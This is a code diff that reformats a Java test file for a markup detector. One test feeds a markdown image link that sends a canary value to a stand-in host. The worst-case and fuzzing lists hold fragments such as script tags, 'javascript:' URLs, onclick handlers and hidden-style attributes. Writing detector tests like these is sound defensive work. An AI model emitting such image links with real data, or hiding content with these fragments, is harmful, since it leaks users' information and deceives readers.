@@ -54,7 +54,8 @@ final class MarkupTest {
 
     @Test
     void evidenceOfAnAddressHoldsNothingThatItCarries() {
-        var found = Markup.in("![p](https://a.example/log?d=SYS-CANARY-0000-AB)").orElseThrow();
+        var found =
+                Markup.in("![p](https://a.example/log?d=SYS-CANARY-0000-AB)").orElseThrow();
         String evidence = found.sightings().getFirst().evidence();
         assertTrue(evidence.contains("a.example"), evidence);
         assertFalse(evidence.contains("CANARY"), evidence);
@@ -63,9 +64,37 @@ final class MarkupTest {
     @Test
     void takesNoLongerForTheWorstThanInProportion() {
         List<String> worst = List.of(
-                "<", "<a", "<a ", "<a \"", "<a =\"", "<a b=\"", "<a b='\"", "<!--", "<!", "<?", "</ ", "<script>", "<i hidden>",
-                "<i hidden>a<", "](", "]:", "](<", "![", "![](", "](x<", "<javascript:", "<a href=\"&#x6a", "<p style='/*'>",
-                "<a href=//a.example/?", "<a b='<script", "[//]: # (a", "<a\u00a0", "< a>", "<a b=c>", "<![CDATA[", "<x:y:z ");
+                "<",
+                "<a",
+                "<a ",
+                "<a \"",
+                "<a =\"",
+                "<a b=\"",
+                "<a b='\"",
+                "<!--",
+                "<!",
+                "<?",
+                "</ ",
+                "<script>",
+                "<i hidden>",
+                "<i hidden>a<",
+                "](",
+                "]:",
+                "](<",
+                "![",
+                "![](",
+                "](x<",
+                "<javascript:",
+                "<a href=\"&#x6a",
+                "<p style='/*'>",
+                "<a href=//a.example/?",
+                "<a b='<script",
+                "[//]: # (a",
+                "<a\u00a0",
+                "< a>",
+                "<a b=c>",
+                "<![CDATA[",
+                "<x:y:z ");
         for (String piece : worst) {
             for (String end : List.of("", ">", "\">", "'>")) {
                 String text = piece.repeat(1_000_000 / piece.length()) + end;
@@ -84,9 +113,38 @@ final class MarkupTest {
     @Provide
     Arbitrary<String> pages() {
         return Arbitraries.of(
-                        "<", ">", "\"", "'", "=", " ", "/", "!", "--", "-->", "<!--", "<script", "</script>", "<a href=",
-                        "javascript:", "data:text/html,x", "](", "![", "]:", ")", " onclick=x", " hidden", " style='display:none'",
-                        "</p>", "<p", "word and word ", "https://a.example/?q=", "aGVsbG8gd29ybGQgMTIz", "&#x6a;", "\n", "[//]: # (", "é")
+                        "<",
+                        ">",
+                        "\"",
+                        "'",
+                        "=",
+                        " ",
+                        "/",
+                        "!",
+                        "--",
+                        "-->",
+                        "<!--",
+                        "<script",
+                        "</script>",
+                        "<a href=",
+                        "javascript:",
+                        "data:text/html,x",
+                        "](",
+                        "![",
+                        "]:",
+                        ")",
+                        " onclick=x",
+                        " hidden",
+                        " style='display:none'",
+                        "</p>",
+                        "<p",
+                        "word and word ",
+                        "https://a.example/?q=",
+                        "aGVsbG8gd29ybGQgMTIz",
+                        "&#x6a;",
+                        "\n",
+                        "[//]: # (",
+                        "é")
                 .list()
                 .ofMinSize(1)
                 .ofMaxSize(24)
